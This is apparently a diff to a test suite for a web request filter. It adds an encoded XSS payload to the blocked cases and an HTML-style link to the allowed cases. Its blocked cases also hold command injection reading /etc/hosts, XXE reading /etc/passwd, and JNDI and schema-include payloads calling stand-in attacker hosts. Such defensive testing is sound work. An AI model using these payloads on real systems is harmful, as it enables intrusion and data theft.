@@ -34,6 +34,8 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
     ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'])],
     ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://x7f.attacker.example/"/></xs:schema>'])],
+    // A payload whose '&' the URL left raw: cut into parameters, read whole too.
+    ["xss", send("GET", "/search?q=&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B")],
     ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
     // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
     ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
@@ -166,6 +168,7 @@ test("prose and normal API calls pass", async () => {
     await send("GET", "/search?q=select+a+drop-off+point"),
     await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
     await send("GET", "/products/42?sort=price&order=asc"),
+    await send("GET", "/products?page=2&amp;sort=price&title=Tom+&+Jerry"), // a link copied from HTML
     // Slugs and names in REST paths, each segment read as a value.
     await send("GET", "/api/v1/plans/select-a-plan"),
     await send("GET", "/shop/Levi's%20501%20(original)/reviews"),
